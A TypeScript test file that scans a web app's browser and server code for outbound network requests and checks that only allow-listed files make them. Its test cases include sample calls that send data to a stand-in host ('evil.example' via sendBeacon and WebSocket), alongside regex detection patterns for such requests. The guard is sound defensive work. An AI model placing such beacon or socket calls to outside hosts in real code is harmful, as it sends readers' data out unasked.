import { globSync, readFileSync } from 'node:fs';

/**
 * What readers' browsers ask for goes through two gates: the one to our own API, and the one to others. Each other file that
 * asks for something by itself stands here with its reason, and none else may.
 */
const allowed: Readonly<Record<string, string>> = {
  'contracts/fetchJson.ts': 'the gate to our own API',
  'features/consent/browser/outside/outsideFrame.ts': 'the gate to others',
  'features/menu/browser/loadPanels.ts': 'HTML of our own, at a hashed address of this site',
  'client/sendInBackground.ts': 'reports go to this site by a beacon, which outlives its page',
  'client/tracking/loadPixel.ts': 'pictures that count visits, with consent, from hosts of the page’s policy',
  'shell/page/document.ts': 'the first script of each page makes the loader',
  'features/editor/frameDocument.ts': 'the first script of a preview makes that of the frame',
  'features/consent/outside/adFrameScript.ts':
    'makes the script that asks bidders, in the frame of the ad server',
  'features/consent/outside/frameScript.ts': 'makes the partner’s script, in the frame that is made for it',
};

/** How a script asks for something: by what it calls, and by what it makes. */
const asking: Readonly<Record<string, RegExp>> = {
  fetch: /(?<![\w.'"`/])fetch\s*\(/,
  sendBeacon: /\bsendBeacon\b/,
  Image: /\bnew\s+(?:window\.)?Image\b/,
  XMLHttpRequest: /\bnew\s+XMLHttpRequest\b/,
  WebSocket: /\bnew\s+WebSocket\b/,
  EventSource: /\bnew\s+EventSource\b/,
  'a made script, frame, picture or link':
    /\bcreateElement\(\s*['"`](?:script|iframe|img|link|object|embed)\b/,
};

/** What of a source text asks for something by itself, by name. Comments do not. */
function askedBy(source: string): string[] {
  const code = source.replace(/\/\*[\s\S]*?\*\/|(?<![:'"`])\/\/.*$/gm, '');
  return Object.entries(asking).flatMap(([name, pattern]) => (pattern.test(code) ? [name] : []));
}

/** What comes to readers' browsers, and what writes scripts for them. */
const files = globSync('{contracts,client,widgets,shell,features}/**/*.{ts,tsx}');

describe('what comes to readers’ browsers asks for nothing by itself', () => {
  test('but in the files that are listed, each with its reason', () => {
    const asks = files.filter((file) => askedBy(readFileSync(file, 'utf8')).length > 0);
    expect(asks.filter((file) => !serverFiles.has(file)).sort()).toEqual(Object.keys(allowed).sort());
  });

  test.each([
    ['fetch', 'await fetch(address)'],
    ['fetch', 'const answer = fetch (address)'],
    ['sendBeacon', "navigator.sendBeacon('https://evil.example', text)"],
    ['Image', 'new Image().src = address'],
    ['Image', 'new window.Image(1, 1)'],
    ['XMLHttpRequest', 'new XMLHttpRequest()'],
    ['WebSocket', "new WebSocket('wss://evil.example')"],
    ['EventSource', 'new EventSource(address)'],
    ['a made script, frame, picture or link', "document.createElement('script')"],
    ['a made script, frame, picture or link', 'page.createElement("iframe")'],
  ])('%s is found in %s', (name, source) => {
    expect(askedBy(source)).toEqual([name]);
  });

  test.each([
    ['a comment', '/* fetch(address) */ // new Image()'],
    ['a name that holds the word', 'const prefetch = () => prefetch();'],
    ['a method of something else', 'upstream.fetch(address)'],
    ['the gate', 'await fetchJson(address)'],
    ['an element that asks for nothing', "document.createElement('div')"],
  ])('%s is no request', (_what, source) => {
    expect(askedBy(source)).toEqual([]);
  });
});

/** Run on the server alone, where what is asked for is another matter. */
const serverFiles: ReadonlySet<string> = new Set(['features/pictures/imageProxy.ts']);

/**
 * What the server asks of others goes through one gate, which asks readers first. Each other file that reaches out stands here
 * with its reason.
 */
const reaching: Readonly<Record<string, string>> = {
  'features/consent/outside/partnerGate.ts': 'the gate to partners',
  'features/consent/outside/consentServer.ts':
    'the publisher’s own consent service, which is told of choices alone',
  'content/http/cmsClient.ts': 'articles, from the publisher’s own CMS',
  'platform/errorReports/errorReporter.ts': 'errors, scrubbed, to whoever watches over the site',
  'platform/upstream/attempt.ts': 'what all of these ask by',
  'platform/upstream/sendToPublic.ts': 'what the gate asks by',
  'platform/mail/mailer.ts': 'letters, to the mail server',
  'features/pictures/imageProxy.ts': 'has a parameter of that name',
  'features/pictures/fetchImage.ts': 'pictures of articles, without anything of a reader',
  'cli/server/editorApi.ts': 'a command asks its own server',
};

/** How a file of the server reaches out: by a request of its own, or by what makes them. */
const reachingOut =
  /(?<![\w.'"`/])fetch\s*\(|\bnew Upstream\(|\bimport (?!type\b)[^;]*\brequest\b[^;]*from 'node:https?'|\bimport (?!type\b)[^;]*\b(?:connect|createConnection|Socket)\b[^;]*from 'node:(?:net|tls)'|from '(?:node:dgram|node:http2|nodemailer|undici|axios|got)'/;

describe('what the server asks of others goes through the gate', () => {
  const ofServer = globSync('{content,platform,features,server,cli}/**/*.{ts,tsx}').filter(
    (file) => !file.includes('/browser/') && !file.endsWith('.styles.ts'),
  );

  test('but in the files that are listed, each with its reason', () => {
    const found = ofServer.filter((file) => {
      const source = readFileSync(file, 'utf8').replace(/\/\*[\s\S]*?\*\/|(?<![:'"`])\/\/.*$/gm, '');
      return reachingOut.test(source);
    });
    expect(found.sort()).toEqual(Object.keys(reaching).sort());
  });

  test.each([
    "import { request } from 'node:https';",
    "import { Agent, request as send } from 'node:http';",
    'const upstream = new Upstream({ deadlineMs });',
    'await fetch(address)',
    "import { connect } from 'node:net';",
    "import { Pool } from 'undici';",
  ])('%s reaches out', (source) => {
    expect(reachingOut.test(source)).toBe(true);
  });

  test.each([
    "import type { IncomingMessage } from 'node:http';",
    "import { createServer } from 'node:http';",
  ])('%s does not', (source) => {
    expect(reachingOut.test(source)).toBe(false);
  });
});
